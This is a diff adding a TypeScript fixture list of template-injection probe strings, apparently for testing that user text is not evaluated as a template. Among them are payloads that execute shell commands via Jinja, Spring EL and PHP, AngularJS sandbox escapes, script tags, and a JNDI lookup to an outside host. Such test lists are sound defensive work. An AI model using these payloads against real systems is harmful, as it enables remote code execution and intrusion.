@@ -1,0 +1,32 @@
+/** What a template language would calculate, in the browser or in the service. */
+/** So that none of these looks like a template of ours. */
+const dollar = '$';
+
+export const templates: readonly string[] = [
+  '{{7*7}}',
+  '{{constructor.constructor("ran(1)")()}}',
+  '{{$on.constructor("ran(1)")()}}',
+  '{{[].pop.constructor("ran(1)")()}}',
+  '{{#with "s" as |x|}}{{lookup x "constructor"}}{{/with}}',
+  '{{{<script>ran(1)</script>}}}',
+  '{%import os%}{{os.popen("id").read()}}',
+  '{% raw %}<script>ran(1)</script>{% endraw %}',
+  `${dollar}{ran(1)}`,
+  `${dollar}{7*7}`,
+  `\`${dollar}{ran(1)}\``,
+  '#{ran(1)}',
+  '#{7*7}',
+  '*{T(java.lang.Runtime).getRuntime().exec("id")}',
+  '<%= ran(1) %>',
+  '<%- ran(1) %>',
+  '<? ran(1) ?>',
+  '<?php system("id"); ?>',
+  `[[${dollar}{ran(1)}]]`,
+  '@(ran(1))',
+  `${dollar}{jndi:ldap://foreign.example/x}`,
+  '%{ran}',
+  '%{smart_count} |||| ran',
+  '||||',
+  '%s%n%x',
+  "$& $1 $` $'",
+];
